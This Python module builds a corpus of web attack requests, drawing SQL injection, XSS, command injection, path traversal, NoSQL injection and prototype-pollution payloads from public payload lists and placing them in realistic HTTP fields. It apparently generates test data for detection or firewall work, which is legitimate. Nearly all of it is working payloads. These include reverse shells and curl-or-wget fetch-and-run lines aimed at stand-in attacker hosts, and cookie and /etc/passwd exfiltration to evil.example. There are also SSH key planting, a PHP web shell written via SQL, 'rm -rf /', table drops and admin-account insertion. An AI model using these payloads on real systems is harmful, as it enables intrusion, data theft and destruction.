"""Attack payloads (modelled on public payload lists) and where they are placed."""
from lib import *


def A(p, slot=None, raw=False, esc="", src=""):
    return {"p": p, "slot": slot, "raw": raw, "esc": esc, "src": src}


# ---------------------------------------------------------------- placements
def s_query(path, param, extra=""):
    def f(e):
        q = f"{param}={qenc(e['p'], e['raw'])}"
        full = f"{path}?{extra + '&' if extra else ''}{q}"
        return case("GET", full, where="query")
    return f


def s_json(method, path, obj):
    def f(e):
        return case(method, path, {"Content-Type": JSON_CT}, jbody(obj, e["p"], e["esc"]), "body")
    return f


def s_form(path, pairs, key):
    def f(e):
        ps = [(k, (e["p"] if k == key else v)) for k, v in pairs]
        if e["raw"]:
            body = form([(k, v) for k, v in ps if k != key]) + f"&{key}={e['p']}"
        else:
            body = form(ps)
        return case("POST", path, {"Content-Type": FORM_CT}, body, "body")
    return f


def s_header(name, method="GET", path="/api/v1/me", prefix=""):
    def f(e):
        return case(method, path, {name: prefix + e["p"]}, "", "header")
    return f


def s_cookie(path, name, others="theme=dark; _ga=GA1.2.1183954125.1717000000"):
    def f(e):
        return case("GET", path, {"Cookie": f"{others}; {name}={cookie_val(e['p'], e['raw'])}"}, "", "cookie")
    return f


def s_path(tmpl, method="GET"):
    def f(e):
        seg = e["p"] if e["raw"] else quote(e["p"], safe="")
        return case(method, tmpl.replace("{}", seg), where="path")
    return f


def s_mp(path, parts, target, filename_target=False):
    def f(e):
        ps = []
        for name, value, fn, ct in parts:
            if name == target:
                if filename_target:
                    fn = e["p"]
                else:
                    value = e["p"]
            ps.append((name, value, fn, ct))
        return case("POST", path, {"Content-Type": MP_CT}, multipart(ps), "multipart")
    return f


# ---------------------------------------------------------------- SQLi
SQLI = [
    A("' OR '1'='1"), A("admin'--"), A("' OR 1=1-- -"), A("1' ORDER BY 3--+"),
    A("1 UNION SELECT NULL,NULL,NULL--"), A("-1' UNION SELECT username,password FROM users-- -"),
    A("1' AND SLEEP(5)#"), A("1; WAITFOR DELAY '0:0:5'--"),
    A("1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- x"),
    A("' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    A("' AND updatexml(1,concat(0x7e,user()),1)-- -"),
    A("1/**/UNION/**/SELECT/**/1,2,3"), A("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3"),
    A("' uNiOn SeLeCt 1,@@version,3-- -"),
    A("1%27%20OR%20%271%27%3D%271", raw=True, slot="q_id"),
    A("1%2527%2520OR%25201%253D1--", raw=True, slot="q_search"),
    A("'; DROP TABLE users;--"), A("1'; EXEC xp_cmdshell('whoami');--"), A("' OR pg_sleep(5)--"),
    A("1 AND 1=CAST((SELECT version()) AS int)"),
    A("' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--"),
    A("1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -"),
    A("') OR ('x')=('x"), A("\" OR \"\"=\""), A("1 OR 1=1"),
    A("1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055"),
    A("' UNION SELECT table_name,NULL FROM information_schema.tables-- -"),
    A("' AND (SELECT COUNT(*) FROM sysobjects)>0--"), A("1 AND BENCHMARK(5000000,MD5(1))"),
    A("'+(select*from(select(sleep(5)))a)+'"),
    A("'%09OR%091=1--%09", raw=True, slot="q_search"),
    A("1'||(SELECT 'x' FROM dual WHERE 1=1)||'"),
    A("name,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)", slot="q_sort"),
    A("' AND 1=(SELECT 1 FROM pg_sleep(5))--"), A("1 UNION SELECT LOAD_FILE('/etc/passwd'),2--"),
    A("' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    A("1;SELECT+CASE+WHEN+(1=1)+THEN+pg_sleep(5)+ELSE+pg_sleep(0)+END--", raw=True, slot="q_id"),
    A("'/**/OR/**/1/**/=/**/1#"), A("%bf%27+OR+1%3D1+--+", raw=True, slot="form_login"),
    A("' Or 1 LiKe 1-- "), A("1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -"),
    A("' AND 1=CONVERT(int,(SELECT @@version))--"), A("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    A("' UNION SELECT NULL FROM DUAL--"), A("admin' or '1'='1'/*"),
    A("'; INSERT INTO users(username,role) VALUES('eve','admin')-- "),
    A("'; UPDATE users SET role='admin' WHERE username='eve'-- "), A("1 HAVING 1=1--"),
    A("' GROUP BY id HAVING 1=1 --"), A("1' and sqlite_version()=sqlite_version()--"),
    A("' UNION SELECT sql,NULL FROM sqlite_master--"),
    A("1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", slot="q_id"),
    A("' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)-- "),
    A("1'%0AOR%0A1=1--", raw=True, slot="q_id"),
    A("-1 UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata"),
    A("' or sleep(5)='"), A("1) or benchmark(10000000,MD5(1))#"), A("1' waitfor delay '0:0:5'--"),
    A("' OR 1=1--", esc="'=", slot="json_login"),
    A("127.0.0.1' AND SLEEP(5)-- -", slot="hdr_xff"),
    A("Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", slot="hdr_ua"),
    A("abc' OR '1'='1", slot="cookie"),
    A("https://shop.example.com/item?id=1' UNION SELECT password FROM users--", slot="hdr_referer"),
    A("1 UNION SELECT password FROM users--", slot="path"),
    A("admin'--", slot="mp"),
    A("' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')-- "),
    A("1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64"),
    A("')) OR 1=1-- "), A("';SELECT pg_sleep(5)--"), A("1 or 0x50=0x50"),
    A("1' AND 1=1 UNION SELECT NULL,CONCAT(user,0x3a,password) FROM mysql.user-- -", esc="'", slot="json_filter"),
]

SQL_SLOTS = {
    "q_search": s_query("/api/v1/products", "q", "page=1&per_page=24"),
    "q_id": s_query("/api/v2/orders", "id", "expand=items"),
    "q_sort": s_query("/admin/api/users", "sort", "limit=50"),
    "json_login": s_json("POST", "/api/auth/login", {"username": "__P__", "password": "Summer2024!"}),
    "json_filter": s_json("POST", "/api/reports/query",
                          {"filters": [{"field": "region", "op": "eq", "value": "__P__"}], "limit": 100}),
    "form_login": s_form("/account/login", [("username", ""), ("password", "hunter22"), ("remember", "on")], "username"),
    "json_nested": s_json("PUT", "/api/customers/4821", {"customer": {"name": "Dana Kim", "address": {"city": "__P__", "zip": "94107"}}}),
    "graphql": s_json("POST", "/graphql", {"query": "query Order($id: ID!) { order(id: $id) { id total status } }",
                                           "variables": {"id": "__P__"}}),
    "hdr_xff": s_header("X-Forwarded-For"),
    "hdr_ua": s_header("User-Agent", path="/api/v1/catalog"),
    "hdr_referer": s_header("Referer", path="/api/v1/cart"),
    "cookie": s_cookie("/api/v1/account", "session_id"),
    "path": s_path("/api/v1/customers/{}/invoices"),
    "mp": s_mp("/api/profile", [("username", "", None, None), ("bio", "Hiking and coffee.", None, None)], "username"),
    "form_search": s_form("/search", [("q", ""), ("category", "books")], "q"),
    "json_arr": s_json("POST", "/api/v1/orders/bulk-status", {"ids": ["1001", "__P__", "1003"], "status": "shipped"}),
}
SQL_ROT = ["q_search", "json_login", "q_id", "form_login", "json_filter", "json_nested", "graphql",
           "form_search", "json_arr", "q_sort", "hdr_xff", "cookie", "mp", "path"]

# ---------------------------------------------------------------- XSS
XSS = [
    A("<script>alert(1)</script>"), A("<svg onload=alert(1)>"), A("\"><svg onload=alert(1)//"),
    A("\"onmouseover=alert(1)//"), A("\"autofocus/onfocus=alert(1)//"), A("'-alert(1)-'", slot="q_search"),
    A("</script><svg onload=alert(1)>"), A("<svg onload=alert`1`>"), A("<svg onload=alert&lpar;1&rpar;>"),
    A("<svg onload=alert&#x28;1&#x29>"), A("<img src=x onerror=alert(document.cookie)>"),
    A("<iframe src=javascript:alert(1)>"), A("<a href=javascript:alert(1)>click"),
    A("<a href=\"jAvAsCrIpT:alert(1)\">profile</a>"), A("<a href=\"java&#x09;script:alert(1)\">x</a>"),
    A("<form><button formaction=javascript:alert(1)>click"), A("<object data=javascript:alert(1)>"),
    A("<iframe srcdoc=<svg/o&#x6Eload&equals;alert&lpar;1)&gt;>"), A("<svg><script xlink:href=data:,alert(1) />"),
    A("<details open ontoggle=alert(1)>"), A("<body onload=alert(1)>"), A("<video><source onerror=alert(1)>"),
    A("<audio src=x onerror=alert(1)>"), A("<input autofocus onfocus=alert(1)>"),
    A("<select autofocus onfocus=alert(1)>"), A("<textarea autofocus onfocus=alert(1)>"),
    A("<marquee onstart=alert(1)>"), A("<ScRiPt>alert(1)</sCrIpT>"),
    A("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    A("<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    A("<svg/onload=eval(atob('YWxlcnQoMSk='))>"), A("<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    A("javascript:alert(document.domain)", slot="q_redirect"),
    A("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", slot="q_redirect"),
    A("%3Cscript%3Ealert(1)%3C%2Fscript%3E", raw=True, slot="q_search"),
    A("%253Cscript%253Ealert(1)%253C%252Fscript%253E", raw=True, slot="q_search"),
    A("<script>alert(1)</script>", esc="<>", slot="json_comment"),
    A("\"><img src=1 onerror=alert(1)>.gif", slot="mp_file"),
    A("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>", slot="mp_svg"),
    A("<script src=//evil.example/x.js></script>"), A("\"><script src=data:&comma;alert(1)//"),
    A("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    A("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    A("<img src=x onerror=fetch('https://evil.example/?c='+document.cookie)>"),
    A("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"), A("<x onclick=alert(1)>click this!"),
    A("%3Cimg%09src=x%09onerror=alert(1)%3E", raw=True, slot="q_search"),
    A("<img/src=\"x\"/onerror=alert(1)>"), A("<svg onload=setTimeout('alert\\x281\\x29')>"),
    A("';alert(String.fromCharCode(88,83,83))//"), A("</title><script>alert(1)</script>"),
    A("</textarea><script>alert(1)</script>"),
    A("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    A("<embed src=javascript:alert(1)>"), A("<isindex formaction=javascript:alert(1) type=submit>"),
    A("<div style=\"background-image:url(javascript:alert(1))\">hi</div>"),
    A("{{constructor.constructor('alert(1)')()}}"), A("<img src=x onerror=top['al'+'ert'](1)>"),
    A("<svg onload=top[/al/.source+/ert/.source](1)>"), A("<svg onload=al\\u0065rt(1)>"),
    A("<svg onload=[1].find(alert)>"), A("\"><img src=x onerror=prompt(1)>", slot="hdr_referer"),
    A("<iframe onload=alert(1)>"),
    A("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    A("<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a>"),
    A("<form action=javascript:alert(1)><input type=submit>"), A("<img src=\"x\" onerror  =  \"alert(1)\">"),
    A("[click me](javascript:alert(document.cookie))", slot="json_comment"),
    A("<a href=\"&#106;avascript:alert(1)\">x</a>"), A("<svg><script>alert&#40;1&#41;</script>"),
    A("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    A("<script>alert(1)</script>", slot="hdr_ua"),
    A("<img src=x onerror=alert(1)>", slot="cookie"),
]

XSS_SLOTS = {
    "json_comment": s_json("POST", "/api/v1/posts/8812/comments", {"body": "__P__", "notify": True}),
    "json_profile": s_json("PATCH", "/api/v1/users/me", {"displayName": "__P__", "timezone": "Europe/Berlin"}),
    "q_search": s_query("/search", "q", "lang=en"),
    "q_redirect": s_query("/oauth/logout", "return_to", "client_id=web"),
    "form_review": s_form("/products/3321/reviews", [("rating", "5"), ("title", "Great"), ("text", "")], "text"),
    "json_ticket": s_json("POST", "/api/v2/tickets", {"ticket": {"subject": "__P__", "priority": "normal",
                                                                "requester": {"email": "sam@example.org"}}}),
    "json_chat": s_json("POST", "/api/chat.postMessage", {"channel": "C024BE91L", "text": "__P__"}),
    "mp_field": s_mp("/api/v1/listings", [("title", "", None, None), ("price", "49.00", None, None)], "title"),
    "mp_file": s_mp("/api/v1/uploads", [("file", "GIF89a....", "", "image/gif")], "file", filename_target=True),
    "mp_svg": s_mp("/api/v1/avatars", [("avatar", "", "avatar.svg", "image/svg+xml")], "avatar"),
    "json_cms": s_json("PUT", "/wp-json/wp/v2/posts/77", {"title": "Spring sale", "content": "__P__", "status": "draft"}),
    "hdr_referer": s_header("Referer", path="/api/v1/analytics/pageview", method="GET"),
    "hdr_ua": s_header("User-Agent", path="/api/v1/telemetry"),
    "cookie": s_cookie("/dashboard", "last_search"),
    "path": s_path("/u/{}/profile"),
    "json_arr": s_json("POST", "/api/v1/boards/12/cards", {"title": "Sprint 14", "labels": ["backend", "__P__"]}),
}
XSS_ROT = ["json_comment", "q_search", "json_profile", "form_review", "json_ticket", "json_chat",
           "mp_field", "json_cms", "json_arr", "path", "cookie"]

# ---------------------------------------------------------------- command injection
CMDI = [
    A(";id"), A("; cat /etc/passwd"), A("|id"), A("|| whoami"), A("&& uname -a"), A("`id`"), A("$(id)"),
    A(";sleep 5;"), A("127.0.0.1; cat /etc/passwd"), A("127.0.0.1 && curl http://evil.example/x.sh | sh"),
    A("8.8.8.8|nc -e /bin/sh 203.0.113.50 4444"), A("$(curl -s http://attacker.example/s|bash)"),
    A(";wget http://evil.example/a -O /tmp/a;chmod +x /tmp/a;/tmp/a"),
    A("%0Aid", raw=True, slot="q_host"), A("%0a/bin/cat%20/etc/passwd", raw=True, slot="q_host"),
    A("a);id"), A("FAIL||id"), A("CMD=$'\\x69\\x64';$CMD"), A(";c'a't /etc/pa's's'wd"),
    A(";ca\\t /et\\c/pas\\swd"), A(";cat${IFS}/etc/passwd"), A(";{cat,/etc/passwd}"),
    A(";cat$IFS$9/etc/passwd"), A(";/???/??t /???/p??s??"), A(";echo aWQ= | base64 -d | sh"),
    A("& ping -n 5 127.0.0.1 &"), A("| type C:\\Windows\\win.ini"), A("& whoami /all"),
    A("& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    A("& net user hacker P@ssw0rd! /add"), A("`sleep 5`"), A("$(sleep 5)"),
    A(";bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"), A(";python3 -c 'import os;os.system(\"id\")'"),
    A(";perl -e 'system(\"id\")'"), A(";nc 203.0.113.50 4444 -e /bin/bash"),
    A("<!--#exec cmd=\"id\"-->", slot="json_note"), A("x.jpg;rm -rf /", slot="json_convert"),
    A("$(whoami).example.com", slot="json_dns"), A("example.com; dig $(whoami).attacker.example", slot="json_dns"),
    A("|| ping -c 5 127.0.0.1 ||"), A("%26%26%20id", raw=True, slot="q_host"),
    A("%7C%7C%20id", raw=True, slot="form_ping"), A("%253Bid", raw=True, slot="q_host"),
    A(";cat ${HOME:0:1}etc${HOME:0:1}passwd"), A("\nid\n", slot="json_ping"),
    A("; curl -d @/etc/passwd http://evil.example/c"), A("; /bin/sh -c 'id'"),
    A("; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@evil' >> ~/.ssh/authorized_keys"),
    A("`cat /etc/shadow`"), A("| /usr/bin/id"), A("; uname${IFS}-a"),
    A("() { :; }; /bin/bash -c 'cat /etc/passwd'", slot="hdr_ua"),
    A("() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id", slot="hdr_referer"),
    A("; ls -la /"), A("$(printf '\\151\\144')"), A("& nslookup attacker.example &"),
    A("127.0.0.1\r\nid", slot="json_ping"), A(";id", slot="cookie"), A("| id", slot="mp"),
]

CMD_SLOTS = {
    "q_host": s_query("/api/v1/tools/ping", "host", "count=3"),
    "json_ping": s_json("POST", "/api/v1/diagnostics/traceroute", {"target": "__P__", "maxHops": 20}),
    "json_dns": s_json("POST", "/api/v1/dns/lookup", {"domain": "__P__", "type": "A"}),
    "json_convert": s_json("POST", "/api/v1/images/convert", {"filename": "__P__", "format": "png", "width": 800}),
    "form_ping": s_form("/admin/network/ping", [("ip", ""), ("submit", "Ping")], "ip"),
    "json_backup": s_json("POST", "/api/admin/backup", {"database": "__P__", "compress": True}),
    "json_git": s_json("POST", "/api/v1/repos/import", {"url": "https://git.example.com/team/app.git", "branch": "__P__"}),
    "json_note": s_json("POST", "/api/v1/pages", {"title": "Status", "html": "__P__"}),
    "q_file": s_query("/cgi-bin/download.cgi", "file", ""),
    "form_email": s_form("/contact", [("email", ""), ("message", "Hello")], "email"),
    "hdr_ua": s_header("User-Agent", path="/cgi-bin/status"),
    "hdr_referer": s_header("Referer", path="/cgi-bin/test.cgi"),
    "cookie": s_cookie("/cgi-bin/admin.cgi", "lang"),
    "mp": s_mp("/api/v1/media/thumbnail", [("size", "", None, None), ("image", "JFIF....", "photo.jpg", "image/jpeg")], "size"),
    "json_arr": s_json("POST", "/api/v1/jobs", {"name": "nightly", "args": ["--input", "__P__"]}),
    "path": s_path("/api/v1/hosts/{}/ping"),
}
CMD_ROT = ["q_host", "json_ping", "json_dns", "form_ping", "json_convert", "json_backup", "json_git",
           "form_email", "json_arr", "q_file", "mp", "path"]

# ---------------------------------------------------------------- traversal
TRAV = [
    A("../../../../etc/passwd"), A("..%2f..%2f..%2fetc%2fpasswd", raw=True),
    A("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", raw=True), A("%252e%252e%252fetc%252fpasswd", raw=True),
    A("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", raw=True), A("..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", raw=True),
    A("....//....//....//etc/passwd"), A("..\\..\\..\\windows\\win.ini"), A("..%5c..%5c..%5cwindows%5cwin.ini", raw=True),
    A("/etc/passwd%00.png", raw=True), A("../../../../etc/passwd%00", raw=True),
    A("..%u2216..%u2216..%u2216etc%u2216passwd", raw=True), A("..;/..;/..;/etc/passwd", slot="path_raw", raw=True),
    A("../../../../proc/self/environ"), A("../../../../var/log/nginx/access.log"), A("..././..././..././etc/shadow"),
    A("file:///etc/passwd"), A("php://filter/convert.base64-encode/resource=../config.php"),
    A("C:\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"), A("../../../../../../boot.ini"),
    A("..//..//..//etc/passwd"), A("..%252f..%252f..%252fetc%252fpasswd", raw=True),
    A("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", raw=True), A("../../../root/.ssh/id_rsa"),
    A("../../../../app/.env"), A("../../../var/www/html/shell.php", slot="mp_file"),
    A("../../../../etc/cron.d/backdoor", slot="json_zip"),
    A("..%2f..%2f..%2fetc%2fpasswd", raw=True, slot="path_raw"),
    A("%2e%2e/%2e%2e/%2e%2e/etc/passwd", raw=True, slot="path_raw"),
    A("../../../../etc/passwd", slot="cookie"), A("../../../../../../etc/passwd%00", raw=True, slot="q_tpl"),
    A("\\..\\..\\..\\windows\\win.ini", esc="\\", slot="json_export"),
    A("/var/www/../../etc/passwd"), A("..%2F..%2F..%2F..%2Fwindows%2Fsystem32%2Fconfig%2Fsam", raw=True),
    A("..%5C..%5C..%5C..%5Cinetpub%5Cwwwroot%5Cweb.config", raw=True),
    A("/%2e%2e/%2e%2e/%2e%2e/etc/hosts", raw=True, slot="path_raw"), A("....\\\\....\\\\....\\\\windows\\\\win.ini"),
    A("..%c1%9c..%c1%9c..%c1%9cboot.ini", raw=True), A(".%2e/.%2e/.%2e/etc/passwd", raw=True),
    A("%2e%2e%5c%2e%2e%5c%2e%2e%5cetc%5cpasswd", raw=True), A("../../WEB-INF/web.xml"),
    A("/proc/self/cwd/../../../etc/passwd"), A("../../../../etc/passwd", esc="./", slot="json_export"),
    A("../../../../../etc/shadow", slot="hdr_tpl"), A("../../../../etc/passwd", slot="form_dl"),
]

TRAV_SLOTS = {
    "q_file": s_query("/api/v1/files/download", "path", "disposition=attachment"),
    "q_tpl": s_query("/index.php", "page", ""),
    "q_img": s_query("/api/v1/thumbnails", "src", "w=200&h=200"),
    "json_export": s_json("POST", "/api/v1/exports/read", {"file": "__P__", "encoding": "utf-8"}),
    "json_tpl": s_json("POST", "/api/v1/render", {"template": "__P__", "data": {"name": "Ana"}}),
    "json_zip": s_json("POST", "/api/v1/archives/extract", {"archive": "upload-5521.zip",
                                                           "entries": [{"name": "docs/readme.txt"}, {"name": "__P__"}]}),
    "form_dl": s_form("/download", [("file", ""), ("token", "9c1f2e")], "file"),
    "path_raw": s_path("/static/{}"),
    "mp_file": s_mp("/api/v1/attachments", [("file", "<?php echo 'x'; ?>", "", "application/octet-stream")], "file", filename_target=True),
    "cookie": s_cookie("/", "lang"),
    "hdr_tpl": s_header("X-Template", path="/api/v1/mail/preview"),
    "q_attach": s_query("/api/v2/issues/3391/attachments", "name", ""),
}
TRAV_ROT = ["q_file", "json_export", "q_tpl", "json_tpl", "q_img", "form_dl", "q_attach", "path_raw"]

# ---------------------------------------------------------------- NoSQL (MongoDB operator injection)
def jraw(method, path, body, where="body"):
    return lambda e: case(method, path, {"Content-Type": JSON_CT}, body, where)


def qraw(path, where="query"):
    return lambda e: case("GET", path, where=where)


def fraw(path, body):
    return lambda e: case("POST", path, {"Content-Type": FORM_CT}, body, "body")


NOSQL_CASES = [
    jraw("POST", "/api/auth/login", '{"username":"admin","password":{"$ne":null}}'),
    jraw("POST", "/api/auth/login", '{"username":{"$gt":""},"password":{"$gt":""}}'),
    jraw("POST", "/api/auth/login", '{"username":"admin","password":{"$regex":"^a"}}'),
    qraw("/api/users/login?username[$ne]=x&password[$ne]=x"),
    qraw("/api/v1/accounts?user[$regex]=.*&pass[$regex]=.*"),
    fraw("/login", "login%5B%24gt%5D=&password%5B%24gt%5D="),
    jraw("POST", "/api/v1/products/search", '{"$where":"sleep(5000)"}'),
    jraw("POST", "/api/auth/login", '{"username":"admin","$where":"this.password.match(/.*/)"}'),
    jraw("POST", "/api/auth/login", '{"email":{"$in":["admin@example.com","root@example.com"]},"password":{"$nin":[""]}}'),
    jraw("POST", "/api/v1/users/find", '{"filter":{"$or":[{},{"a":"a"}]}}'),
    jraw("POST", "/api/auth/login", '{"username":{"$exists":true},"password":{"$exists":true}}'),
    qraw("/api/v1/users?username=admin&password[$regex]=^adm"),
    qraw("/api/v1/invoices?customer_id[$gt]=0"),
    jraw("POST", "/api/auth/reset-password", '{"token":{"$ne":""},"newPassword":"Pwn3d!pass"}'),
    jraw("POST", "/api/v1/items/query", '{"query":{"$where":"function(){return true}"}}'),
    qraw("/api/users/login?username%5B%24ne%5D=x&password%5B%24ne%5D=x"),
    jraw("POST", "/api/auth/login", '{"username":"admin","password":{"\\u0024ne":null}}'),
    jraw("POST", "/api/v1/users/search", '{"filter":{"role":{"$regex":".*"},"apiKey":{"$ne":null}}}'),
    jraw("POST", "/api/v1/reports/aggregate", '{"pipeline":[{"$lookup":{"from":"users","localField":"ownerId","foreignField":"_id","as":"owner"}},{"$project":{"owner.passwordHash":1}}]}'),
    jraw("POST", "/api/v1/orders/find", '{"filter":{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}}'),
    qraw("/api/v1/posts?filter[$where]=sleep(5000)"),
    jraw("POST", "/api/auth/login", '{"username":"admin","password":{"$not":{"$eq":"x"}}}'),
    qraw("/api/v1/members?user[$nin][]=nobody&role=admin"),
    jraw("POST", "/api/v1/jobs/find", '{"where":{"$where":"while(true){}"}}'),
    jraw("POST", "/api/auth/verify-otp", '{"email":"victim@example.com","otp":{"$regex":"\\\\d{6}"}}'),
    lambda e: case("POST", "/api/auth/login", {"Content-Type": MP_CT},
                   multipart([("username[$ne]", "1", None, None), ("password[$ne]", "1", None, None)]), "multipart"),
    qraw("/api/v1/users?username=admin&password=%27%20%26%26%20this.password.match(/.*/)//%00"),
    jraw("POST", "/api/v1/session", '{"user":{"name":"admin","pin":{"$gte":0}}}'),
    fraw("/api/login", "username=admin&password%5B%24regex%5D=%5Ea.*"),
    lambda e: case("GET", "/api/v1/me", {"Cookie": "uid=" + quote('{"$ne":null}', safe="") + "; theme=light"}, "", "cookie"),
]

# ---------------------------------------------------------------- prototype pollution
PROTO_CASES = [
    jraw("POST", "/api/v1/users/me/preferences", '{"__proto__":{"isAdmin":true}}'),
    jraw("PUT", "/api/v1/settings", '{"constructor":{"prototype":{"isAdmin":true}}}'),
    qraw("/api/v1/search?q=shoes&__proto__[admin]=1"),
    qraw("/api/v1/items?__proto__.isAdmin=true"),
    qraw("/api/v1/config?constructor[prototype][admin]=true"),
    qraw("/?constructor.prototype.polluted=1"),
    jraw("PATCH", "/api/v1/users/42", '{"user":{"name":"Jo","__proto__":{"role":"admin"}}}'),
    jraw("POST", "/api/v1/workspace/settings", '{"settings":{"theme":"dark","__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}'),
    jraw("POST", "/api/v1/templates/preview", '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}'),
    jraw("POST", "/api/v1/users/me/preferences", '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}'),
    qraw("/api/v1/filter?__pro__proto__to__[isAdmin]=1"),
    fraw("/account/settings", "name=Jo&__proto__%5Bpolluted%5D=yes"),
    jraw("POST", "/api/v1/import", '{"rows":[{"id":1},{"__proto__":{"isAdmin":true}}]}'),
    qraw("/api/v1/list?__proto__%5Bpolluted%5D=1"),
    qraw("/api/v1/list?constructor%5Bprototype%5D%5Bpolluted%5D=1"),
    jraw("POST", "/api/v1/profile", '{"__proto__":{"json spaces":10}}'),
    jraw("POST", "/api/v1/cors/test", '{"__proto__":{"exposedHeaders":["X-Pwned"]}}'),
    jraw("POST", "/api/v1/forms", '{"__proto__":{"parameterLimit":1}}'),
    jraw("POST", "/api/v1/render", '{"constructor":{"prototype":{"sourceURL":"\\u000areturn e=>{return process.mainModule.require(\'child_process\').execSync(\'id\')}"}}}'),
    jraw("POST", "/api/v1/objects/set", '{"path":"__proto__.isAdmin","value":true}'),
    lambda e: case("PATCH", "/api/v1/documents/9", {"Content-Type": "application/json-patch+json"},
                   '[{"op":"add","path":"/__proto__/isAdmin","value":true}]', "body"),
    jraw("POST", "/api/v1/merge", '{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')"}}'),
    lambda e: case("GET", "/api/v1/dashboard", {"Cookie": "prefs=" + quote('{"__proto__":{"admin":true}}', safe="") + "; sid=s%3Aab12"}, "", "cookie"),
    lambda e: case("POST", "/api/v1/profile", {"Content-Type": MP_CT},
                   multipart([("name", "Jo", None, None), ("__proto__[admin]", "true", None, None)]), "multipart"),
    jraw("PUT", "/api/v1/config", '{"a":{"b":{"constructor":{"prototype":{"polluted":"yes"}}}}}'),
]


def build_family(items, slots, rot):
    out = []
    for i, e in enumerate(items):
        name = e["slot"] or rot[i % len(rot)]
        if e["raw"] and not e["slot"] and name not in ("q_search", "q_id", "q_host", "q_file", "q_tpl", "q_img", "q_attach", "path_raw", "form_ping", "form_dl", "form_login", "form_search"):
            # already wire-encoded payloads go where they are decoded: query first
            name = [k for k in slots if k.startswith("q_")][i % len([k for k in slots if k.startswith("q_")])]
        c = slots[name](e)
        c["_payload"] = e["p"]
        out.append(c)
    return out


def all_attacks():
    res = {}
    res["sqli"] = build_family(SQLI, SQL_SLOTS, SQL_ROT)
    res["xss"] = build_family(XSS, XSS_SLOTS, XSS_ROT)
    res["cmdi"] = build_family(CMDI, CMD_SLOTS, CMD_ROT)
    res["traversal"] = build_family(TRAV, TRAV_SLOTS, TRAV_ROT)
    res["nosql"] = [f(None) for f in NOSQL_CASES]
    res["proto"] = [f(None) for f in PROTO_CASES]
    return res
